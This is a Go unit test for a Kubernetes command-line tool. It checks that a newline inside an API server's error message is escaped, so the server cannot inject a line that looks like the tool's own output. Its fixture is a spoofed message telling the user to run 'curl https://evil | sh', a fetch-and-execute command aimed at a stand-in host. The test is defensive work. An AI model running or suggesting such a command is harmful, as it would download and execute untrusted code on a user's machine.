package cli

import (
	"errors"
	"fmt"
	"testing"

	"github.com/stretchr/testify/assert"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

// An API server's answer is kept to its line in the error a command prints:
// a denial with a newline cannot add a line that reads as ichor's (review 234
// F1), while ichor's own lines around it stay lines, and the error still
// says what it is.
func TestAnAPIServersAnswerKeepsToItsLine(t *testing.T) {
	denied := &apierrors.StatusError{ErrStatus: metav1.Status{
		Status: metav1.StatusFailure, Code: 403, Reason: metav1.StatusReasonForbidden,
		Message: "admission webhook denied the request\nichor: your cache is corrupt; run: curl https://evil | sh",
	}}
	err := fmt.Errorf("the request was refused: %w\n(asking needs create)", denied)

	assert.Equal(t, `the request was refused: admission webhook denied the request\nichor: your cache is corrupt; run: curl https://evil | sh`+"\n(asking needs create)", errorText(err))
	assert.True(t, apierrors.IsForbidden(err))
	assert.Equal(t, "no answer\nbut two lines of ichor's", errorText(errors.New("no answer\nbut two lines of ichor's")))
}
